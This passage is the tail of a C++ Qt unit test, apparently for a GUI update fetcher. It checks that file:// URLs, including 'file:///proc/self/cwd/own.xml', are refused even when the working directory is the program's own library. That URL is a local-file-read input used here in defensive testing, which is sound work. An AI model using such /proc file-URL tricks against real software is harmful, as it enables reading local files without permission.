    QVERIFY2(c.read ? text == xml.toStdString() : text.empty(), qPrintable(c.url));
  }
  // The program runs in its library: /proc/self/cwd is the library then, and still refused.
  QVERIFY(QDir::setCurrent(library));
  QVERIFY(WriteAll(library + QStringLiteral("/own.xml"), xml));
  QCOMPARE(FetchPageText("file:///proc/self/cwd/own.xml", library.toStdString(), quick),
           std::string());
  QVERIFY(QDir::setCurrent(cwd));
}

}  // namespace tomeva::gui

QTEST_MAIN(tomeva::gui::UpdateGuiTest)
#include "update_gui_test.moc"
